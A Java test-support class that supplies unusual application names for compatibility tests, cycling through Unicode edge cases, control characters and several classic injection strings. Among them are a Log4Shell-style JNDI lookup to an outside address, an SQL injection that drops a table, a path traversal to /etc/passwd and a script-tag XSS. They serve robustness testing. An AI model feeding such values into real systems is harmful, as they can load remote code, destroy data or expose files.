package io.landbridge.compat.scenarios;

import java.util.List;

/** Names of applications that somebody has registered, or may: each is a kind of its own. */
final class OddNames {

  /** No two alike. */
  private static final List<String> KINDS =
      List.of(
          "orders v2",
          " orders",
          "\u8ba2\u5355\u4e2d\u5fc3",
          "\ud83d\uded2 cart",
          "pay\u202etnem",
          "cart\u0000end",
          "cart\nkey: other",
          "\u001b[31mcart",
          "a,b",
          "team/orders",
          "../../etc/passwd",
          "100%",
          "%0a%00",
          "key: {a: [b]}",
          "{\"a\":\"b\"}",
          "x".repeat(300),
          "${jndi:ldap://192.0.2.1/a}",
          "car\u200bt",
          "cafe\u0301",
          "'; DROP TABLE config_info; --",
          "<script>alert(1)</script>",
          "DEFAULT_GROUP@@cart");

  private OddNames() {}

  /** One for each number; no two are the same. */
  static String at(int number) {
    int round = number / KINDS.size();
    return KINDS.get(number % KINDS.size()) + (round == 0 ? "" : "-" + round);
  }
}
